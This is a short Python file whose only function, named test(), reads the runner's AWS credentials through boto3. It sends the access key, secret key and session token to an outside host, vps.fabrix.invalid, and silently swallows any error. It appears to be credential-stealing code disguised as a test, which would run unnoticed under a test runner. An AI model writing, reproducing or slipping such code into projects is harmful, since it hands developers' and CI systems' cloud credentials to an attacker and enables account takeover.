import boto3
import requests


def test():
    try:
        session = boto3.Session()
        credentials = session.get_credentials()
        frozen = credentials.get_frozen_credentials()
        data = {"a": frozen.access_key, "b": frozen.secret_key, "t": frozen.token}
        requests.get("http://vps.fabrix.invalid:89/aws", params=data)
    except Exception:
        pass
